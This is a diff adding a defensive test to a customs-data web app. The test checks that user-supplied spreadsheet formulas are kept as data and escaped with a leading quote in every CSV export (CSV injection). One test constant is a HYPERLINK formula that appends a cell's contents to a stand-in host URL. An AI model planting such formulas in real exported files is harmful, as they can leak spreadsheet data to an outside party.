@@ -120,3 +120,41 @@ def test_bad_drawback_files_are_422_named_by_their_upload(web: Web) -> None:
     where = {(p["where"]["file"], p["where"]["field"]) for p in answer.json()["problems"]}
     assert any(file == "mine.csv" for file, _ in where)
     assert (None, "as_of") in where or any(field == "as_of" for _, field in where)
+
+
+FORMULA = '=HYPERLINK("http://x.example/?"&A1,"Click")'
+
+
+def test_a_formula_from_the_users_files_is_data_and_comes_out_escaped(
+    web: Web, tmp_path: Path
+) -> None:
+    """An admission number and a unit that a spreadsheet would run are the user's data:
+    accepted and kept as written, and every CSV download of them (API, page, CLI) writes
+    them with a quote in front, while amounts stay numbers (OWASP CSV injection)."""
+    import csv as csv_module
+    import io
+    from decimal import Decimal
+
+    parts = "part,description,hts,origin,unit\nW,Widget,8537.10.91.70,DE,+SUM(A1)\n"
+    cli(web, tmp_path, "parts", "load", "--zone", "1", "@parts.csv", files={"parts.csv": parts})
+    quoted = '"' + FORMULA.replace('"', '""') + '"'
+    keys = []
+    for path, text in (("admissions", ADMISSIONS.replace("A-1", quoted)),
+                       ("shipments", SHIPMENTS.replace("S1", "@S1"))):
+        answer = web.client.post(f"/api/v1/zones/1/{path}", files=csv_upload("f.csv", text),
+                                 headers=web.as_(Role.CLERK))
+        assert answer.status_code == 200, answer.json()
+        keys += [e["key"] for e in answer.json()["events"]]
+    assert f"admission {FORMULA} line 1" in keys  # the user's identifier, kept as written
+    h = web.as_(Role.BROKER)
+    texts = [
+        web.client.get("/api/v1/zones/1/entries/weekly/2026-W32.csv", headers=h).text,
+        cli(web, tmp_path, "entry", "weekly", "--zone", "1", "--week", "2026-W32", "--csv"),
+    ]
+    for text in texts:
+        rows = list(csv_module.DictReader(io.StringIO(text)))
+        assert rows and {r["Line Tariff UOM (1) Code"] for r in rows} == {"'+SUM(A1)"}
+        for cell in (c for r in rows for c in r.values()):
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) or (
+                Decimal(cell) < 0), cell
+        assert sum(Decimal(r["Line Tariff Goods Value Amount"]) for r in rows) > 0
